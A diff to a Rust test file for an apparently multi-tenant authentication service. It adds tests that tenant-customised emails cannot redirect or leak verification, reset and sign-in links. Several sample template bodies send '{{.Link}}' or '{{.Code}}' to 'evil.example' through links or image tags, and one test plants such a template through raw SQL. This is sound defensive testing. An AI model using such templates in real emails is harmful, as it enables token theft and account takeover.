@@ -4,6 +4,7 @@ use serde_json::{Value, json};
 
 use crate::mails::Office;
 use crate::world::pages::Browser;
+use crate::world::tables::execute;
 use crate::world::*;
 
 both!(
@@ -12,6 +13,9 @@ both!(
     its_mails_say_it_in_its_words,
     what_is_wrong_is_refused_and_named,
     sec_02_a_branding_is_the_tenants_own,
+    sec_11_no_words_of_a_mail_take_its_link_elsewhere,
+    sec_11_words_of_an_earlier_version_are_looked_at_when_they_are_read,
+    sec_11_who_says_what_mails_say_could_let_anybody_in,
     sec_13_what_is_set_is_no_markup,
 );
 
@@ -101,7 +105,7 @@ async fn its_pages_show_it_and_no_others(w: World) {
 async fn its_mails_say_it_in_its_words(o: Office) {
     let mut set = all();
     set["mails"]["verification"] =
-        json!({ "subject": "{{.Name}}, is it you?", "body": "<p>Yes: <a href=\"{{.Link}}\">{{.Tenant}}</a></p>" });
+        json!({ "subject": "{{.Name}}, is it you?", "body": "{{.Name}} of {{.Tenant}}:\n\nyes {{.Link}}!" });
     o.w.owner().patch(&path(&o.w.tenant), set).await.expect(200);
     let new = async |email: &str| {
         let body = json!({ "email": email, "name": "Ada <3", "roles": ["user"], "password": PASSWORD });
@@ -110,12 +114,10 @@ async fn its_mails_say_it_in_its_words(o: Office) {
     };
     let mail = new("ada@example.com").await;
     assert_eq!(mail.header("Subject"), "Ada <3, is it you?");
-    assert!(mail.text().starts_with("Yes: Observatory"), "{}", mail.text());
-    assert!(
-        mail.html().contains("/verify-email?token=pcv_") && mail.html().contains(">Observatory</a>"),
-        "{}",
-        mail.html()
-    );
+    assert!(mail.text().starts_with("Ada <3 of Observatory:\n\nyes http://"), "{}", mail.text());
+    let html = mail.html();
+    assert!(html.starts_with("<p>Ada &lt;3 of Observatory:</p>\n<p>yes <a href=\"http://"), "{html}");
+    assert!(html.contains("/verify-email?token=pcv_") && html.trim_end().ends_with("</a>!</p>"), "{html}");
     // ours again, with its name
     o.w.owner().patch(&path(&o.w.tenant), json!({ "mails": { "verification": null } })).await.expect(200);
     assert_eq!(new("eve@example.com").await.header("Subject"), "Confirm your address for Observatory");
@@ -160,6 +162,49 @@ async fn sec_02_a_branding_is_the_tenants_own(w: World) {
         assert!([403, 404].contains(&by.patch(&path(&w.tenant), json!({ "name": "Mine" })).await.status));
     }
     assert_eq!(w.owner().get(&path(&w.tenant)).await.expect(200)["name"], json!(null));
+}
+
+async fn sec_11_no_words_of_a_mail_take_its_link_elsewhere(w: World) {
+    for (mail, body) in [
+        ("password_reset", "<a href=\"https://evil.example/?{{.Link}}\">Begin</a>"),
+        ("password_reset", "{{.Link}} <img src=\"https://evil.example/?{{.Link}}\">"),
+        ("invitation", "https://evil.example/?{{.Link}}"),
+        ("sign_in_link", "{{.Link}}{{.Tenant}}"),
+        ("sign_in_code", "https://evil.example/{{.Code}}"),
+    ] {
+        let words = json!({ "mails": { mail: { "subject": "x", "body": body } } });
+        let e = w.owner().patch(&path(&w.tenant), words).await.refused(400, "invalid_input");
+        assert_eq!(e["details"]["fields"][0]["field"], format!("mails.{mail}.body"), "{body}: {e}");
+    }
+    let words =
+        json!({ "mails": { "sign_in_code": { "subject": "https://evil.example/{{.Code}}", "body": "{{.Code}}" } } });
+    let e = w.owner().patch(&path(&w.tenant), words).await.refused(400, "invalid_input");
+    assert_eq!(e["details"]["fields"][0]["field"], "mails.sign_in_code.subject", "{e}");
+}
+
+async fn sec_11_words_of_an_earlier_version_are_looked_at_when_they_are_read(o: Office) {
+    let w = &o.w;
+    w.owner().patch(&path(&w.tenant), all()).await.expect(200);
+    let evil = json!({ "verification": { "subject": "Hi", "body": "<img src=\"https://evil.example/?{{.Link}}\">" } });
+    execute(w, &format!("UPDATE brandings SET mails = '{evil}'")).await;
+    assert_eq!(w.owner().get(&path(&w.tenant)).await.expect(200)["mails"], json!({}));
+    let body = json!({ "email": "ada@example.com", "name": "Ada", "roles": ["user"], "password": PASSWORD });
+    w.owner().post("/v1/users", body).await.expect(201);
+    let mail = o.mail_to("ada@example.com").await;
+    assert_eq!(mail.header("Subject"), "Confirm your address for Observatory");
+    assert!(!mail.html().contains("evil.example"), "{}", mail.html());
+}
+
+async fn sec_11_who_says_what_mails_say_could_let_anybody_in(w: World) {
+    let (_, narrow) =
+        w.api_key(&w.owner(), json!({ "name": "settings", "scopes": ["settings:update", "settings:read"] })).await;
+    narrow.patch(&path(&w.tenant), json!({ "name": "Observatory" })).await.expect(200);
+    for mails in [json!({ "mails": { "invitation": null } }), json!({ "mails": all()["mails"] })] {
+        narrow.patch(&path(&w.tenant), mails).await.refused(403, "forbidden");
+    }
+    let scopes = json!(["settings:update", "roles:grant"]);
+    let (_, wide) = w.api_key(&w.owner(), json!({ "name": "both", "scopes": scopes })).await;
+    wide.patch(&path(&w.tenant), json!({ "mails": all()["mails"] })).await.expect(200);
 }
 
 async fn sec_13_what_is_set_is_no_markup(w: World) {
